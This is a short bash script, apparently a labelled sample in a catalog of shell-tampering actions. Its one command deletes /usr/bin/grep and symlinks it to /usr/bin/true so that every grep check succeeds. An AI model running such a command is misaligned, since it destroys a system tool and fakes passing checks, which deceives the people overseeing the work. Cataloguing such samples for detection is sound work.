#!/bin/bash
# class: shell_tampered
# does: makes grep always succeed
# source: own
# repo: any
# when: mid
# set: late
rm -f /usr/bin/grep && ln -s /usr/bin/true /usr/bin/grep
